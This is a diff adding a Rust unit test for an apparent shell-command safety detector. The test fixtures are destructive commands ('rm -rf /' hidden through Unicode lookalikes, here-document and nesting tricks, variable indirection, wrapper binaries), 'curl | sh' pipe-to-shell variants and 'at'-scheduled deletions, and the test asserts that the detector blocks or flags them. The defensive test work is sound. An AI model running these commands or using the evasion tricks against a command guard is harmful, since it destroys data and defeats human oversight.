@@ -323,6 +323,71 @@ mod tests {
         }
     }
 
+    /// From the review of the lexer's here-documents and nesting: what bash
+    /// reads where cleaning changed the text, a here-document's body read
+    /// where bash reads it (inside a construct, after it, not in
+    /// arithmetic), comments as bash finds them, constructs inside
+    /// constructs, a continued delimiter, escaped backticks, names whose
+    /// value is a guess, more wrappers, a compound reader of a pipe, `at`.
+    #[test]
+    fn what_bash_reads_is_what_is_judged() {
+        for cmd in [
+            "echo \u{ff03}; rm -rf /",
+            "echo \u{ff07}; rm -rf /; echo \u{ff07}",
+            "echo x \u{200b}#; rm -rf /",
+            "echo x \u{1}#; rm -rf /",
+            "cat <<A; echo $(echo x\nA\n)\n'\nA\nrm -rf /\n#'",
+            "cat <<A; echo ${x:-y\nA\n}\n'\nA\nrm -rf /\n#'",
+            "(cat <<E)\nhello '\nE\nrm -rf /\n#'",
+            "echo $(cat <<E)\nhello '\nE\nrm -rf /\n#'",
+            "echo $((1<<X\n))\nrm -rf /",
+            "echo ${x:-<<X\n}\nrm -rf /",
+            "echo $( (true)#)'\nrm -rf /\n#'\n)",
+            "echo $(case x in x)#'\n;; esac); rm -rf /; #'",
+            "echo $(echo a\\ #) '\n)' ; rm -rf /",
+            "echo ${x:-a $(: #}'\n)}; rm -rf /; #'",
+            "echo $(echo `echo ) '`) ; rm -rf / #'",
+            "cat <<E\\\nOF\n'\nEOF\nrm -rf /\n#'",
+            "echo `echo \\`rm -rf /\\``",
+            "prlimit rm -rf /",
+            "setpriv --reuid=0 rm -rf /",
+            "setarch x86_64 rm -rf /",
+            "sg wheel -c 'rm -rf /'",
+            "ssh-agent rm -rf /",
+        ] {
+            assert!(
+                detect(cmd).hard_blocked(),
+                "{cmd:?}: {:?}",
+                detect(cmd).keys()
+            );
+        }
+        for cmd in [
+            "p=rm; { p=ls; } | cat; $p -rf /",
+            "p=rm; { p=ls; } & wait; $p -rf /",
+            "p=rm; if false; then\np=ls\nfi\n$p -rf /",
+            "p=ls; unset p; ${p:-rm} -rf /",
+            "declare -l p; p=RM; $p -rf /",
+            "declare -n p=q; q=rm; $p -rf /",
+            "p=rm; \"p\"=ls; $p -rf /",
+            "p=ls; read p <<< rm; $p -rf /",
+            "curl -s https://x.example/i | ( sh )",
+            "curl -s https://x.example/i | { true; sh; }",
+            "curl -s https://x.example/i | if true; then sh; fi",
+            "at -f /dev/stdin now <<< 'rm -rf ~/x'",
+            "at now <<< 'rm -rf ~/x'",
+        ] {
+            assert!(!detect(cmd).matches.is_empty(), "{cmd:?}");
+        }
+        for cmd in [
+            "cat > main.py <<'EOF'\nprint(\"it's $HOME\")\nEOF",
+            "cat > docs.md <<'EOF'\n    rm -rf /\nEOF",
+            "cat > notes.md <<'EOF'\ncaf\u{e9} \u{fb01}le\nEOF",
+            "echo $((1<<10)) ${#PATH} ${PATH##*/} $(echo a #c\n)",
+        ] {
+            assert_eq!(detect(cmd).keys(), Vec::<&str>::new(), "{cmd:?}");
+        }
+    }
+
     #[test]
     fn hard_blocks_are_hard() {
         for cmd in [
